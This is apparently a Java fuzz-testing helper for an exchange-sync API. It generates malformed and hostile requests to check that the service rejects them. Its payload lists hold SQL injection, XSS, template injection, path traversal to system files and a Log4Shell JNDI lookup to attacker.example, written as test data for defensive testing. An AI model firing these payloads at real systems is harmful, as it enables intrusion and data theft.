package io.coinsphere.exchangesync.web;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.UUID;

/**
 * Generates malformed and hostile requests from a seeded {@link Random}, so that a failing run can
 * be repeated exactly: broken JSON, wrong types, long strings, Unicode edge cases, SQL, script and
 * template payloads, bad path ids and another user's ids, wrong media types, and bad tokens.
 */
final class HostileRequests {

    /** How the request authenticates. Only {@link #VALID} is a real login; every other one must get no data. */
    enum Auth { VALID, NONE, GARBAGE, ALG_NONE, FORGED_SUBJECT, EXPIRED, WRONG_ISSUER, EMPTY_BEARER, BASIC }

    /** One endpoint of the API as the OpenAPI document lists it. */
    record Endpoint(String method, String template) {
        String key() {
            return method + " " + template;
        }
    }

    /** One request to send: {@code body == null} means none; {@code chunked} streams it without a length. */
    record Request(Endpoint endpoint, String method, String path, Auth auth, String contentType, String accept,
            byte[] body, boolean chunked, String kind) {
    }

    static final String[] HOSTILE_STRINGS = {
        "' OR '1'='1", "'; DROP TABLE exchange_connections; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(5)", "$1",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}",
        "${jndi:ldap://attacker.example/a}", "#{T(java.lang.Runtime).getRuntime()}", "${header.Authorization}",
        "${body}", "${sys:user.home}", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%00", "%s%s%s%n",
        "\u202Egnp.exe", "مرحبا بالعالم", "שלום", "😀🔥💸", "Z\u0351\u0360\u0307a\u0352l\u035Bg\u0346o", "\uFEFFbom",
        "a\u0000b", "\u0007bell", "line\nbreak\r\nforged log line", "\u001B[31mred", "\u0085nel", "null", "true",
        "binance", "BINANCE", " binance ", "bіnance" /* Cyrillic i */, "",
    };

    /** Raw JSON texts that are not a valid body, whatever the endpoint. */
    static final String[] BROKEN_JSON = {
        "{", "}", "{\"exchange\": \"binance\",", "{\"a\":}", "nul", "{'apiKey':'x'}", "[1,2,3]", "\"just a string\"", "42",
        "null", "true", "{\"apiKey\":\"a\",\"apiKey\":\"b\",\"apiSecret\":\"s\"}", "{\"label\":\"x\"} trailing",
        "{\"label\":\"\\ud800\"}", "{\"label\":\"\\udc00x\"}", "{\"label\":\"a\\u0000b\"}", "{\"label\":\"\\u0000\"}",
        "{\"label\":\"tab\\there\"}", "{\"apiKey\":\"\\u0000\",\"apiSecret\":\"s\"}", "{\"\\u0000\":1}",
        "{\"syncInterval\":1e400}", "{\"syncInterval\":99999999999999999999999}", "{\"syncInterval\":-1}",
        "{\"syncInterval\":59}", "{\"syncInterval\":86401}", "{\"syncInterval\":300.5}", "{\"syncInterval\":\"300\"}",
        "{\"autoSync\":\"true\"}", "{\"autoSync\":1}", "{\"autoSync\":null,\"syncInterval\":null}",
        "{\"label\":123}", "{\"label\":true}", "{\"label\":{\"nested\":1}}", "{\"label\":[\"a\"]}",
        "{\"exchange\":1,\"apiKey\":true,\"apiSecret\":[]}", "{\"exchange\":null,\"apiKey\":null,\"apiSecret\":null}",
        "{\"email\":1,\"password\":2}", "{\"email\":\"a@b.c\"}", "{\"password\":\"" + "p".repeat(200) + "\"}",
        "\u00ff\u00fe{", "{\"a\":\"\\x41\"}", "/* comment */ {}", "{\"apiKey\":\"k\",}", "NaN", "{\"syncInterval\":NaN}",
    };

    private final Random random;
    private final List<String> victimIds;

    HostileRequests(Random random, List<String> victimIds) {
        this.random = random;
        this.victimIds = victimIds;
    }

    private <T> T pick(T[] values) {
        return values[random.nextInt(values.length)];
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    Request next(Endpoint endpoint) {
        Auth auth = random.nextInt(10) < 6 ? Auth.VALID : pick(Auth.values());
        String method = random.nextInt(12) == 0 ? pick(new String[] {"GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"})
                : endpoint.method();
        String path = endpoint.template().replace("{id}", pathId());
        if (random.nextInt(10) == 0) {
            path = path + pick(new String[] {"/", "/extra", "/..", "/%2e%2e/admin", ";jsessionid=x", "?id=" + pick(victimIds),
                "?access_token=x", "//", "/%00"});
        }
        String contentType = random.nextInt(8) == 0 ? pick(new String[] {null, "text/plain", "application/xml",
            "application/x-www-form-urlencoded", "application/json; charset=utf-16", "application/jsonx", "%%%", "*/*",
            "multipart/form-data; boundary=x"}) : "application/json";
        String accept = random.nextInt(10) == 0 ? pick(new String[] {"text/html", "application/xml", "*/*", "%%%", "image/png"})
                : "application/json";
        String kind;
        byte[] body;
        boolean chunked = false;
        int shape = random.nextInt(9);
        switch (shape) {
            case 0 -> {
                kind = "broken-json";
                body = utf8(pick(BROKEN_JSON));
            }
            case 1 -> {
                kind = "huge-string";
                int length = pick(new Integer[] {101, 513, 4_000, 60_000, 66_000, 70_000, 200_000});
                body = utf8("{\"exchange\":\"binance\",\"apiKey\":\"" + "k".repeat(length) + "\",\"apiSecret\":\"s\",\"label\":\""
                        + "x".repeat(Math.min(length, 1000)) + "\"}");
                chunked = random.nextBoolean();
            }
            case 2 -> {
                kind = "deep-nesting";
                int depth = pick(new Integer[] {50, 900, 2_000, 20_000});
                body = utf8("[".repeat(depth) + "]".repeat(depth));
            }
            case 3 -> {
                kind = "random-bytes";
                body = new byte[random.nextInt(512)];
                random.nextBytes(body);
            }
            case 4 -> {
                kind = "no-body";
                body = null;
            }
            default -> {
                kind = "hostile-fields";
                body = utf8(hostileObject());
            }
        }
        return new Request(endpoint, method, path, auth, body == null && random.nextBoolean() ? null : contentType, accept,
                body, chunked, kind);
    }

    /** A JSON object whose fields hold hostile strings, right or wrong types, plausible or random credentials. */
    private String hostileObject() {
        StringBuilder json = new StringBuilder("{");
        String[] fields = {"exchange", "apiKey", "apiSecret", "passphrase", "label", "autoSync", "syncInterval", "email",
            "password", "userId", "id", "connectionId", "status", "__proto__", "constructor"};
        int count = 1 + random.nextInt(6);
        for (int i = 0; i < count; i++) {
            if (i > 0) {
                json.append(',');
            }
            json.append('"').append(pick(fields)).append("\":").append(value());
        }
        if (random.nextBoolean()) {
            // A realistic but unknown key, so /test and /connect reach the exchange and are refused there.
            json.append(",\"exchange\":\"").append(pick(new String[] {"binance", "kraken", "kucoin", "coinbase", "coinbase-advanced"}))
                    .append("\",\"apiKey\":\"fuzz-key-").append(UUID.randomUUID()).append("\",\"apiSecret\":\"")
                    .append(FuzzSecrets.next(random)).append("\",\"passphrase\":\"").append(FuzzSecrets.next(random)).append('"');
        }
        return json.append('}').toString();
    }

    private String value() {
        return switch (random.nextInt(7)) {
            case 0 -> String.valueOf(random.nextInt());
            case 1 -> random.nextBoolean() ? "true" : "false";
            case 2 -> "null";
            case 3 -> "[" + quote(pick(HOSTILE_STRINGS)) + "]";
            case 4 -> "{\"$ne\":null}";
            case 5 -> quote(pick(victimIds));
            default -> quote(pick(HOSTILE_STRINGS));
        };
    }

    /** A path id: the victim's (the cross-user case), a random UUID, or something that is not a UUID. */
    private String pathId() {
        return switch (random.nextInt(6)) {
            case 0, 1 -> pick(victimIds);
            case 2 -> pick(victimIds).toUpperCase();
            case 3 -> UUID.randomUUID().toString();
            default -> pick(new String[] {"not-a-uuid", "1", "0", "-1", "%27%20OR%20%271%27%3D%271", "..%2F..%2Fetc%2Fpasswd",
                "%2e%2e", "..", "%00", "%F0%9F%98%80", "%E2%80%AE", "%7B" + pick(victimIds) + "%7D", pick(victimIds) + "0",
                pick(victimIds).replace("-", ""), "x".repeat(3_000), "00000000-0000-0000-0000-000000000000",
                "%252e%252e%252f", "%3Cscript%3E", "%25ZZ"});
        };
    }

    static String quote(String text) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** Random secrets for the fuzz bodies; each one joins the leak watch, so a body echoed into a log is caught. */
    static final class FuzzSecrets {
        static final List<String> ISSUED = new ArrayList<>();

        static String next(Random random) {
            String secret = "fuzz-secret-" + Long.toHexString(random.nextLong()) + Long.toHexString(random.nextLong());
            ISSUED.add(secret);
            io.coinsphere.exchangesync.support.LeakWatch.secret(secret);
            return secret;
        }
    }
}
